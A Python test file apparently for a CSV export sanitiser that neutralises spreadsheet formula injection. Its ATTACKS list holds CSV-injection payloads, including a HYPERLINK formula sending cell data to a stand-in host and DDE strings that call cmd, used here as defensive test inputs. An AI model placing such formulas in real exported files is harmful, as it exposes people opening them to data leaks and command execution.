"""What a spreadsheet opens, it must not execute."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from holdfast.wire.csv_cells import DANGEROUS, csv_text, defused

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "\u00a0=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_would_be_a_formula_is_shown_as_text(attack: str) -> None:
    """With an apostrophe in front, which a spreadsheet reads as "text"; nothing of it is lost."""
    assert defused(attack) == f"'{attack}"
    (row,) = csv.reader(io.StringIO(csv_text([[attack]]), newline=""))
    assert row == [f"'{attack}"]


@pytest.mark.parametrize("text", ["Alice", "key_01", "a=b", "1+1", "", "nano-banana-pro", "'quoted", "50 %"])
def test_harmless_text_stays_as_it_is(text: str) -> None:
    """A sign in the middle is no formula."""
    assert defused(text) == text


def test_numbers_of_ours_stay_numbers() -> None:
    """A negative amount begins with a sign and is no formula: spreadsheets can add it up."""
    assert csv_text([[-3, Decimal("-0.24"), Decimal("0.000001")]]) == "-3,-0.24,0.000001\r\n"


def test_text_is_always_quoted_and_lines_end_as_the_rfc_says() -> None:
    """A program that takes `;` for the separator splits no cell into a formula."""
    assert csv_text([["a;=1", 'say "x"', None, 7]]) == '"a;=1","say ""x""","",7\r\n'


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=4))
def test_whatever_text_there_is_comes_back_harmless(rows: list[list[str]]) -> None:
    """Read back, each cell is the text, or the text after an apostrophe; none begins as a formula does."""
    rows = [[cell.replace("\0", "") for cell in row] for row in rows]
    read = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    assert read == [[defused(cell) for cell in row] for row in rows]
    assert not any(cell.lstrip().startswith(DANGEROUS) for row in read for cell in row)
